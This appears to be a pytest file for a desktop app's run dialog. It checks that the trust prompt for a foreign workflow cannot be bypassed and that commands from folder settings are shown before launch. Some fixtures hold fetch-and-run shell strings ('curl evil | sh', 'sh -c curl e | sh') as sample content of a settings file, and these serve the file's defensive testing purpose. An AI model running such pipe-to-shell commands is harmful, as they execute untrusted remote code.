"""The first launch of a foreign workflow in the window (ruling 26): what would start is read, and a press of the button starts it."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest
from PySide6.QtCore import Qt
from PySide6.QtTest import QTest

from quarterdeck.domain.ids import Revision, RunId
from quarterdeck.domain.refusal import Code, Refusal
from quarterdeck.engine.door import LaunchRequest
from quarterdeck.engine.planned import FoundSettings, LaunchPreview, PlannedCommand, PlannedGrant, TrustAsked
from quarterdeck.ui.dialogs.run_dialog import RunDialog
from tests.ui import made
from tests.ui.desk import Desk, desk_over, until
from tests.ui.fake_door import FakeDoor

pytestmark = [pytest.mark.qt_loop, pytest.mark.window]

FIRST, SECOND = (Revision(letter * 64) for letter in "ab")


class ForeignDoor(FakeDoor):
    """Asks for the trust of `content` until that is None."""

    content: Revision | None = FIRST
    settings: tuple[FoundSettings, ...] = ()
    alternatives: tuple[PlannedCommand, ...] = ()
    grants: tuple[PlannedGrant, ...] = ()

    async def preview(self, request: LaunchRequest) -> LaunchPreview | Refusal:
        found = await super().preview(replace(request, inputs={"repo": "/r"}))
        assert isinstance(found, LaunchPreview)
        assert request.asks_trust
        trust = TrustAsked(self.content, "/elsewhere/<b>new</b>") if self.content is not None else None
        return replace(
            found, trust=trust, settings=self.settings, alternatives=self.alternatives, grants=self.grants
        )

    async def launch(self, request: LaunchRequest) -> RunId | Refusal:
        if self.content is not None and request.agreed != self.content:
            return Refusal(Code.E_UNTRUSTED, "It is not what was shown.")
        return await super().launch(request)


def foreign() -> ForeignDoor:
    door = ForeignDoor((made.loaded(),))
    door.launched = made.run_view(8)
    return door


async def opened(desk: Desk) -> RunDialog:
    await until(lambda: desk.window.actions_["run"].isEnabled())
    desk.window.actions_["run"].trigger()
    dialog = desk.window.findChild(RunDialog)
    assert isinstance(dialog, RunDialog)
    return dialog


async def ready(desk: Desk) -> RunDialog:
    dialog = await opened(desk)
    await until(lambda: dialog.start.isEnabled(), "what would start is shown")
    return dialog


async def test_what_was_never_started_is_told_and_ctrl_enter_does_not_start_it() -> None:
    door = foreign()
    async with desk_over(door) as desk:
        dialog = await ready(desk)
        assert dialog.start.text() == "Trust and start"
        assert dialog.start.accessibleName() == "Start run"
        assert "/elsewhere/<b>new</b>" in dialog.trust.text()
        assert dialog.trust.textFormat() is Qt.TextFormat.PlainText
        QTest.keyClick(dialog, Qt.Key.Key_Return, Qt.KeyboardModifier.ControlModifier)
        await until(dialog.commands.text.hasFocus)
        assert door.launches == []
        dialog.start.click()
        await until(lambda: door.launches)
        assert door.launches[0].agreed == FIRST


async def test_ctrl_enter_before_anything_is_shown_starts_nothing_once_it_is() -> None:
    door = foreign()
    async with desk_over(door) as desk:
        await until(lambda: desk.window.actions_["run"].isEnabled())
        desk.window.actions_["run"].trigger()
        dialog = desk.window.findChild(RunDialog)
        assert isinstance(dialog, RunDialog)
        QTest.keyClick(dialog, Qt.Key.Key_Return, Qt.KeyboardModifier.ControlModifier)
        await until(lambda: dialog.start.isEnabled())
        assert door.launches == []
        dialog.reject()


async def test_what_changed_since_it_was_read_is_shown_and_asked_anew() -> None:
    door = foreign()
    async with desk_over(door) as desk:
        dialog = await ready(desk)
        door.content = SECOND
        dialog.start.click()
        await until(lambda: dialog.trust.text() == "It is not what was shown.")
        assert door.launches == []
        await until(dialog.start.isEnabled)
        dialog.start.click()
        await until(lambda: door.launches)
        assert door.launches[0].agreed == SECOND


async def test_what_was_started_from_there_before_asks_nothing() -> None:
    door = foreign()
    door.content = None
    async with desk_over(door) as desk:
        dialog = await ready(desk)
        assert dialog.start.text() == "Start run"
        assert not dialog.trust.isVisible()
        QTest.keyClick(dialog, Qt.Key.Key_Return, Qt.KeyboardModifier.ControlModifier)
        await until(lambda: door.launches)
        assert (door.launches[0].asks_trust, door.launches[0].agreed) == (True, None)


async def test_settings_of_the_folder_are_told_with_what_they_start() -> None:
    door = foreign()
    long = FoundSettings(Path("/r/.claude/settings.json"), "h", ("curl <b>evil</b> | sh",), more=3)
    dark = FoundSettings(Path("/r/.mcp.json"), "h", (), is_readable=False)
    door.settings = (long, dark, FoundSettings(Path("/r/.env"), "h", ()))
    async with desk_over(door) as desk:
        dialog = await ready(desk)
        told = dialog.commands.text.toPlainText()
        assert "/r/.claude/settings.json; it starts curl <b>evil</b> | sh; and 3 more" in told
        assert "/r/.mcp.json; what it starts cannot be told" in told
        assert "/r/.env" in told


async def test_other_agents_and_what_agents_are_given_are_told() -> None:
    door = foreign()
    door.alternatives = (
        PlannedCommand("Write", "b", "command", ("sh", "-c", "curl e | sh"), "/r", "/bin/sh"),
    )
    door.grants = tuple(
        PlannedGrant("<b>a</b>", what, f"the {what}")
        for what in ("env", "secrets", "pass_env", "credential", "permissions")
    )
    async with desk_over(door) as desk:
        told = (await ready(desk)).commands.text.toPlainText()
        assert "Write, where you give it to b\nsh -c 'curl e | sh'; in /r" in told
        assert "Environment of <b>a</b>\nthe env\nSecrets of <b>a</b>\nthe secrets" in told
        assert (
            "the pass_env\nSign-in of <b>a</b>\nthe credential\nPermissions of <b>a</b>\nthe permissions"
            in told
        )
